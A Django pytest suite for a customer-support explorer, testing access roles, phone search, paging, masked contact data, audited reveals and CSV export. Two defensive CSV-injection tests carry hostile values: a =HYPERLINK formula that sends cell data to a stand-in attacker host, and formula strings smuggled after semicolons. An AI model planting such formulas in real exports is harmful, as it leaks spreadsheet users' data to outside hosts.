"""The support explorer's pages (/support/): who may open them, the search box, the decision trail, reveal, CSV."""

import csv
import io
import re

import pytest
from django.contrib.auth.models import Permission, User
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from backend.env import EnvError, env_region
from backend.notifications.models import Device, Notification, Recipient, State
from backend.support import search
from backend.support.models import ContactReveal
from campaigns.models import Campaign, Segment
from tests.support_setup import make_scene, send


@pytest.fixture
def agent(demo_data) -> User:
    """The support agent persona (the demo's ``support`` login)."""
    return User.objects.get(username="support")


@pytest.fixture
def scene(demo_data):
    return make_scene()


@pytest.fixture
def as_agent(client, agent):
    client.force_login(agent)
    return client


# --- who may open it ------------------------------------------------------------------------------


@pytest.mark.parametrize("username", ["editor", "marketer", "approver"])
def test_other_staff_roles_get_403(client, demo_data, username):
    client.force_login(User.objects.get(username=username))

    assert client.get("/support/").status_code == 403
    assert client.get("/support/users/u-ar-1/").status_code == 403
    assert client.post("/support/users/u-ar-1/reveal/phone").status_code == 403
    assert ContactReveal.objects.count() == 0


def test_anonymous_visitors_are_sent_to_log_in(client, demo_data):
    response = client.get("/support/?q=0501234567")

    assert response.status_code == 302
    assert response["Location"] == "/admin/login/?next=/support/%3Fq%3D0501234567"


def test_the_support_agent_and_the_admin_may_open_it(client, agent):
    client.force_login(agent)
    assert client.get("/support/").status_code == 200
    client.force_login(User.objects.get(username="admin"))
    assert client.get("/support/").status_code == 200


# --- the search box ---------------------------------------------------------------------------------


@pytest.mark.parametrize("typed", ["0501234567", "+966 50 123 4567", "00966501234567", "050-123-4567", "(050) 1234567"])
def test_a_phone_number_is_found_in_every_form_a_caller_reads_it_out(as_agent, scene, typed):
    response = as_agent.get("/support/", {"q": typed})

    assert response.status_code == 200
    assert response.context["page"].lookup.label == "phone number +966501234567"
    assert {row.pk for row in response.context["page"].rows} == {scene.sent.pk, scene.opted_out.pk, scene.dead.pk}


@pytest.mark.parametrize("typed", ["09121234567", "۰۹۱۲۱۲۳۴۵۶۷", "0912 123 4567", "(0912) 123-4567"])
def test_a_national_number_of_another_country_finds_whoever_has_it(as_agent, scene, typed):
    """Default region SA: an Iranian caller's 0912… is no Saudi number; of its 14 countries' readings one is Mina's."""
    mina = Recipient.objects.get(user_id="u-fa-1")
    assert mina.phone == "+989121234567"
    sent = send("order-88-shipped", "u-fa-1", "shipped", {"order": "88"}, channel="sms")

    response = as_agent.get("/support/", {"q": typed})

    assert response.context["page"].lookup.label == "phone number +989121234567"
    assert [row.pk for row in response.context["page"].rows] == [sent.pk]
    assert 'id="search-warning"' not in response.content.decode()  # one person: nothing to ask


def test_a_national_number_several_people_hold_in_different_countries_says_so(as_agent, scene):
    """0912 123 4567 is Mina's in Iran and, here, someone's in Germany: the agent must ask before reading out."""
    Recipient.objects.create(user_id="u-de-1", email="de@example.com", phone="+499121234567")

    response = as_agent.get("/support/", {"q": "0912 123 4567", "as": "phone"})

    assert response.context["page"].lookup.label == "phone number +499121234567 or +989121234567"
    assert (
        "2 people in different countries have a number that reads as 0912 123 4567: ask the caller which "
        "country their number is from before reading anything out." in response.content.decode()
    )


def test_a_national_number_nobody_has_is_searched_as_a_phone_and_finds_nothing(as_agent, scene):
    response = as_agent.get("/support/", {"q": "07911 123456", "as": "phone"})  # a UK mobile's form; nobody's
    assert response.context["page"].lookup.label == "phone number 07911123456"
    assert response.context["page"].rows == []


def test_the_default_region_is_a_setting(settings, scene):
    settings.SUPPORT = {"DEFAULT_REGION": "US"}

    assert search.national_phone("0501234567") is None
    assert search.national_phone("(415) 555-0123") == "+14155550123"


@pytest.mark.parametrize(
    "query, kind, expected",
    [
        ("u-en-1", "user", "other"),
        ("SAM@Example.COM", "email", "other"),
        ("order-7-shipped", "key", "other"),
        ("SM5012abc", "reference", "sent"),
    ],
)
def test_each_kind_of_query_finds_its_notifications(as_agent, scene, query, kind, expected):
    response = as_agent.get("/support/", {"q": query})

    assert response.context["page"].lookup.kind == kind
    assert [row.pk for row in response.context["page"].rows] == [getattr(scene, expected).pk]


def test_a_notification_id_finds_that_notification(as_agent, scene):
    page = as_agent.get("/support/", {"q": str(scene.dead.pk)}).context["page"]

    assert page.lookup.kind == "notification"
    assert [row.pk for row in page.rows] == [scene.dead.pk]


def test_lists_mask_the_phone_and_email(as_agent, scene):
    body = as_agent.get("/support/", {"q": "u-ar-1"}).content.decode()

    assert "+9665••••567" in body and "l•••@example.com" in body
    assert "+966501234567" not in body and "layla@example.com" not in body


def test_filters_narrow_the_search(as_agent, scene):
    page = as_agent.get("/support/", {"q": "u-ar-1", "state": "suppressed"}).context["page"]
    assert [row.pk for row in page.rows] == [scene.opted_out.pk]

    page = as_agent.get("/support/", {"q": "u-ar-1", "channel": "sms", "provider": "twilio"}).context["page"]
    assert [row.pk for row in page.rows] == [scene.sent.pk]


def test_pages_follow_newest_first_by_keyset(as_agent, scene):
    lookup = search.resolve("+966501234567")
    first = search.page(lookup, search.Filters(), size=2)
    second = search.page(lookup, search.Filters(), first.next_cursor, size=2)

    assert [row.pk for row in first.rows] == [scene.dead.pk, scene.opted_out.pk]
    assert [row.pk for row in second.rows] == [scene.sent.pk]
    assert second.next_cursor is None


def _campaign_rows(scene, count: int) -> tuple[Campaign, list[str]]:
    """A running campaign with ``count`` rows keyed as its fan-out keys them, in shuffled states; its user ids."""
    campaign = Campaign.objects.create(
        name="Weekend", kind=scene.sent.kind, channel="sms", segment=_segment(), state=Campaign.State.RUNNING
    )
    states = [State.QUEUED, State.SENT, State.FAILED, State.SUPPRESSED]
    user_ids = [f"cust-{n:03d}" for n in range(count)]
    recipients = Recipient.objects.bulk_create(Recipient(user_id=user_id) for user_id in user_ids)
    Notification.objects.bulk_create(
        Notification(
            idempotency_key=f"campaign:{campaign.pk}:{recipient.user_id}", idempotency_scope=f"campaign:{campaign.pk}",
            request_hash="", recipient=recipient, kind=scene.sent.kind, channel="sms", priority="standard",
            state=states[(n * 7) % 4], campaign=campaign,
        )
        for n, recipient in enumerate(reversed(recipients))
    )  # fmt: skip
    return campaign, user_ids


def test_a_campaign_search_pages_every_row_once_by_user_id(as_agent, scene):
    campaign, user_ids = _campaign_rows(scene, 120)

    seen, after, pages = [], "", 0
    while True:
        response = as_agent.get("/support/", {"q": f"campaign:{campaign.pk}", "as": "campaign", "after": after})
        page, pages = response.context["page"], pages + 1
        seen += [row.recipient.user_id for row in page.rows]
        if page.next_cursor is None:
            break
        body = response.content.decode()
        assert "listed by user id" in body and "newest first" not in body and "Next →" in body
        after = str(page.next_cursor)
        assert after == f"key~campaign:{campaign.pk}:{seen[-1]}"

    assert pages == 3 and seen == user_ids


def test_a_campaign_search_filters_by_state_on_top_of_the_user_order(scene):
    campaign, _ = _campaign_rows(scene, 40)
    lookup = search.resolve(f"campaign:{campaign.pk}")
    failed = search.Filters(state="failed")

    first = search.page(lookup, failed, size=6)
    rest = search.page(lookup, failed, first.next_cursor, size=6)

    expected = sorted(r.recipient.user_id for r in Notification.objects.filter(campaign=campaign, state="failed"))
    assert len(expected) == 10
    assert [row.recipient.user_id for row in first.rows + rest.rows] == expected and rest.next_cursor is None


def test_the_csv_export_of_a_campaign_has_every_row_once(as_agent, scene, monkeypatch):
    campaign, user_ids = _campaign_rows(scene, 120)
    real_each_row = search.each_row
    monkeypatch.setattr(search, "each_row", lambda lookup, filters: real_each_row(lookup, filters, batch=50))

    response = as_agent.get("/support/export.csv", {"q": f"campaign:{campaign.pk}"})

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert [row["user_id"] for row in rows] == user_ids


@pytest.mark.parametrize("after", ["2026-11-30T10:00:00+00:00~3f1c1b8e-1d2a-4a47-9d5f-0c7a4b6f1e21", "key~a\x00b"])
def test_a_campaign_page_link_of_another_order_or_damaged_is_a_400(as_agent, scene, after):
    campaign, _ = _campaign_rows(scene, 3)
    response = as_agent.get("/support/", {"q": f"campaign:{campaign.pk}", "after": after})
    assert response.status_code == 400 and "That page link is damaged" in response.content.decode()


def test_a_key_page_link_on_a_search_newest_first_is_a_400(as_agent, scene):
    response = as_agent.get("/support/", {"q": "u-ar-1", "after": "key~order-5012-shipped"})
    assert response.status_code == 400 and "That page link is damaged" in response.content.decode()


def _segment():
    return Segment.objects.create(name="everyone", kind=Segment.Kind.LIST)


@pytest.mark.parametrize(
    "params, message",
    [
        ({"q": "u-ar-1", "since": "last tuesday"},
         "since: 'last tuesday' is not a date and time like 2026-11-30T14:00."),
        ({"q": "u-ar-1", "until": "9999-12-31T23:00-02:00"},
         "until: '9999-12-31T23:00-02:00' is not a date and time like 2026-11-30T14:00."),
        ({"q": "u-ar-1", "after": "garbage"}, "That page link is damaged: start the search again."),
        ({"q": "u-ar-1", "after": "0001-01-01T00:30+01:00~3f1c1b8e-1d2a-4a47-9d5f-0c7a4b6f1e21"},
         "That page link is damaged: start the search again."),
        ({"q": "x", "as": "fax"},
         "Unknown kind of search 'fax': one of notification, campaign, user, phone, email, key, reference."),
        ({"q": "hello", "as": "phone"}, "'hello' is not a phone number."),
        ({"q": "x" * 300}, "A search is at most 255 characters."),
        ({"q": "u-ar\x00-1"}, "The search may not contain control characters."),
        ({"q": "u-ar-1", "reason": "opted\x00"}, "reason may not contain control characters."),
    ],
)  # fmt: skip
def test_a_search_it_cannot_read_is_a_400_that_says_why(as_agent, scene, params, message):
    response = as_agent.get("/support/", params)

    assert response.status_code == 400
    assert response.context["error"] == message


@pytest.mark.parametrize("name", ["since", "until"])
def test_a_time_with_an_offset_postgresql_refuses_is_read_in_utc(as_agent, scene, name):
    """PostgreSQL refuses offsets past ±15:59 that parse_datetime takes (a DataError, a 500): sent in UTC."""
    response = as_agent.get("/support/", {"q": "u-ar-1", name: "2026-11-30T14:00-23:59"})
    assert response.status_code == 200


def test_states_it_does_not_know_are_shown_by_their_name(as_agent, scene):
    # The receipts engineer's final states: shown as they come, without a change here.
    Notification.objects.filter(pk=scene.sent.pk).update(state="delivered")

    body = as_agent.get("/support/", {"q": "SM5012abc"}).content.decode()

    assert 'class="state state-delivered">Delivered</span>' in body


# --- the notification page: the decision trail --------------------------------------------------------


def test_the_trail_of_a_suppressed_notification_says_why_in_plain_words(as_agent, scene):
    body = as_agent.get(f"/support/notifications/{scene.opted_out.pk}/").content.decode()

    assert "Not sent: promo on email is off in the user&#x27;s preferences since " in body
    assert "(Asia/Riyadh), set by the user, in the preference center." in body
    assert "this was the first request with that key" in body


def test_the_trail_of_a_sent_sms_shows_the_attempt_and_cost(as_agent, scene):
    response = as_agent.get(f"/support/notifications/{scene.sent.pk}/")
    body = response.content.decode()

    assert "Every check passed" in body and "Accepted by twilio for delivery." in body
    assert "87 ms" in body and "UCS-2" in body and "0.04500 USD" in body and "SM5012abc" in body
    assert "shipped / ar / sms v1 (approved)" in body and "تم شحن طلبك رقم {{ order }}." in body
    assert f'href="/templates/{scene.sent.template_version_id}/"' not in body  # support may not open the editor


def test_a_failed_attempt_reads_not_billed(as_agent, scene):
    body = as_agent.get(f"/support/notifications/{scene.dead.pk}/").content.decode()
    attempt = re.search(r"<td>vonage</td>.*?</tr>", body, re.S).group(0)
    assert "timed out after 3 s" in attempt and "<td>not billed</td>" in attempt
    assert "USD" not in attempt


def test_those_who_may_open_the_editor_get_the_template_version_linked(client, scene):
    client.force_login(User.objects.get(username="admin"))

    body = client.get(f"/support/notifications/{scene.sent.pk}/").content.decode()

    assert f'href="/templates/{scene.sent.template_version_id}/">shipped / ar / sms v1</a>' in body
    assert 'dir="rtl" lang="ar">تم شحن طلبك رقم 5012.</blockquote>' in body


def test_the_replay_button_replays_the_dead_letter(as_agent, scene):
    body = as_agent.get(f"/support/notifications/{scene.dead.pk}/").content.decode()
    assert "every attempt failed with a temporary error" in body and "Replay</button>" in body

    response = as_agent.post(f"/support/notifications/{scene.dead.pk}/replay")

    assert response.status_code == 302
    assert Notification.objects.get(pk=scene.dead.pk).state == State.QUEUED
    assert scene.dead.dead_letters.get().replayed_by == "support"


def test_a_role_without_replay_gets_no_button_and_403(client, scene):
    viewer = User.objects.create(username="viewer", is_staff=True)
    viewer.user_permissions.add(*_permissions("use_explorer"))
    client.force_login(viewer)

    assert "Replay</button>" not in client.get(f"/support/notifications/{scene.dead.pk}/").content.decode()
    assert client.post(f"/support/notifications/{scene.dead.pk}/replay").status_code == 403


def _permissions(*codenames):
    return Permission.objects.filter(content_type__app_label="support", codename__in=codenames)


# --- reveal, user page, CSV ---------------------------------------------------------------------------


def test_revealing_a_phone_writes_the_audit_row_first(as_agent, agent, scene):
    response = as_agent.post(
        "/support/users/u-ar-1/reveal/phone",
        {"notification": str(scene.sent.pk), "reason": "  Ticket 4711:\n caller asks why no SMS "},
        HTTP_HX_REQUEST="true",
    )

    assert response.status_code == 200
    assert response.content.decode().strip() == '<span class="revealed" data-field="phone">+966501234567</span>'
    row = ContactReveal.objects.get()
    assert (row.user, row.username, row.recipient_user_id, row.field, row.notification_id, row.reason) == (
        agent, "support", "u-ar-1", "phone", scene.sent.pk, "Ticket 4711: caller asks why no SMS",
    )  # fmt: skip


@pytest.mark.parametrize(
    ("reason", "message"),
    [
        (None, "Say why you need it (a ticket number, the caller's question) before it is shown."),
        (" \t ", "Say why you need it (a ticket number, the caller's question) before it is shown."),
        ("x" * 201, "Keep the reason to 200 characters; this one has 201."),
    ],
)
def test_a_reveal_without_a_reason_shows_nothing_and_records_nothing(as_agent, scene, reason, message):
    data = {} if reason is None else {"reason": reason}
    response = as_agent.post("/support/users/u-ar-1/reveal/phone", data, HTTP_HX_REQUEST="true")
    assert (response.status_code, response.content.decode()) == (422, message)
    assert "+966501234567" not in response.content.decode()
    assert ContactReveal.objects.count() == 0


def test_the_reveal_form_asks_for_the_reason(as_agent, scene):
    html = as_agent.get("/support/users/u-ar-1/").content.decode()
    assert (
        '<input type="text" name="reason" class="reveal-reason" required maxlength="200" pattern=".*\\S.*" '
        'placeholder="Why? Ticket or caller\'s question" aria-label="Why you need the phone (recorded)" dir="auto">'
    ) in html


def test_without_the_reveal_permission_nothing_is_revealed_or_recorded(client, scene):
    viewer = User.objects.create(username="viewer", is_staff=True)
    viewer.user_permissions.add(*_permissions("use_explorer"))
    client.force_login(viewer)

    assert "Reveal phone" not in client.get("/support/users/u-ar-1/").content.decode()
    assert client.post("/support/users/u-ar-1/reveal/phone").status_code == 403
    assert ContactReveal.objects.count() == 0


def test_the_user_page_shows_devices_preferences_and_history(as_agent, scene):
    devices = Device.objects.filter(recipient__user_id="u-ar-1")
    devices.update(disabled_at=timezone.now(), disabled_reason="UNREGISTERED")

    body = as_agent.get("/support/users/u-ar-1/").content.decode()

    assert "disabled" in body and "UNREGISTERED" in body
    assert "promo by email: <strong>off</strong>" in body
    assert body.count('<tr data-state="') == 3


def test_the_csv_export_streams_the_whole_search_masked(as_agent, scene):
    response = as_agent.get("/support/export.csv", {"q": "0501234567"})

    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    content = b"".join(response.streaming_content)
    assert content.startswith(b'\xef\xbb\xbf"created_at",')  # the BOM Excel needs to read UTF-8 (Arabic previews)
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert [row["id"] for row in rows] == [str(scene.dead.pk), str(scene.opted_out.pk), str(scene.sent.pk)]
    assert {row["phone"] for row in rows} == {"'+9665••••567"}  # as text: Excel reads +9665… as a formula
    assert rows[2]["provider_ref"] == "SM5012abc" and rows[1]["reason"] == "opted-out"


def test_a_formula_after_a_semicolon_stays_inside_its_quoted_cell(as_agent, scene):
    """Excel set to German or French splits a .csv on ";": unquoted, "5;=2*21;" made a cell "=2*21"."""
    Recipient.objects.create(user_id="semi;=1+2;", email="s@example.com", phone="+14155550197")
    send("semi-1", "semi;=1+2;", "shipped", {"order": "5;=2*21;"}, channel="email")
    response = as_agent.get("/support/export.csv", {"q": "semi;=1+2;", "as": "user"})
    line = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()[1]
    preview = next(csv.reader([line]))[-1]
    assert ";=2*21;" in preview
    assert '"semi;=1+2;"' in line and f'"{preview}"' in line  # each inside its quotes, whatever the separator


def test_a_user_id_that_reads_as_a_formula_is_quoted_in_the_csv(as_agent, scene):
    """A client chooses its user ids: "=HYPERLINK(…)" must reach the spreadsheet as text, not a formula."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    Recipient.objects.create(user_id=formula, email="f@example.com", phone="+14155550198")
    send("formula-1", formula, "shipped", {"order": "1"}, channel="email")

    response = as_agent.get("/support/export.csv", {"q": formula, "as": "user"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert [row["user_id"] for row in rows] == ["'" + formula]


def test_the_default_region_setting_is_read_strictly(monkeypatch):
    monkeypatch.setenv("NOTIFY_DEFAULT_REGION", " us ")
    assert env_region("NOTIFY_DEFAULT_REGION", "SA") == "US"
    monkeypatch.setenv("NOTIFY_DEFAULT_REGION", "Saudi")
    with pytest.raises(EnvError, match="NOTIFY_DEFAULT_REGION='Saudi': expected a region code such as SA, US or GB"):
        env_region("NOTIFY_DEFAULT_REGION", "SA")


def test_a_user_id_with_a_slash_and_a_question_mark_links_to_its_page(as_agent, scene):
    Recipient.objects.create(user_id="shop/42 ?x#y", email="odd@example.com", phone="+14155550199")
    odd = send("odd-1", "shop/42 ?x#y", "shipped", {"order": "1"}, channel="email")

    body = as_agent.get("/support/", {"q": "shop/42 ?x#y"}).content.decode()
    assert 'href="/support/users/shop/42%20%3Fx%23y/"' in body

    page = as_agent.get("/support/users/shop/42%20%3Fx%23y/")
    assert page.status_code == 200 and page.context["rows"][0]["n"].pk == odd.pk
    assert as_agent.post("/support/users/shop/42%20%3Fx%23y/reveal/email", {"reason": "t-1"}).status_code == 302


def test_the_search_page_costs_the_same_queries_however_many_rows(as_agent, scene):
    with CaptureQueriesContext(connection) as three:
        as_agent.get("/support/", {"q": "u-ar-1"})
    for n in range(3):
        send(f"order-{n}-more", "u-ar-1", "shipped", {"order": str(n)}, channel="sms")
    with CaptureQueriesContext(connection) as six:
        response = as_agent.get("/support/", {"q": "u-ar-1"})

    assert len(response.context["page"].rows) == 6
    assert len(six.captured_queries) == len(three.captured_queries)


def test_the_reveal_audit_is_read_only_in_the_admin(client, as_agent, scene):
    as_agent.post("/support/users/u-ar-1/reveal/email", {"reason": "ticket 9"})
    client.force_login(User.objects.get(username="admin"))

    listed = client.get("/admin/support/contactreveal/")
    assert listed.status_code == 200 and "u-ar-1" in listed.content.decode()
    assert '<td class="field-reason">ticket 9</td>' in listed.content.decode()
    row = ContactReveal.objects.get()
    assert client.post(f"/admin/support/contactreveal/{row.pk}/delete/", {"post": "yes"}).status_code == 403
    assert ContactReveal.objects.count() == 1


def test_a_reason_that_only_repeats_the_state_is_not_shown_twice(as_agent, scene):
    Notification.objects.filter(pk=scene.sent.pk).update(state=State.DELIVERED, reason="delivered")
    html = as_agent.get("/support/?q=u-ar-1").content.decode()
    assert '<span class="state state-delivered">Delivered</span></td>' in html  # not "Delivered delivered"
    assert '<span class="state state-failed">Failed</span> <small>attempts-exhausted</small>' in html
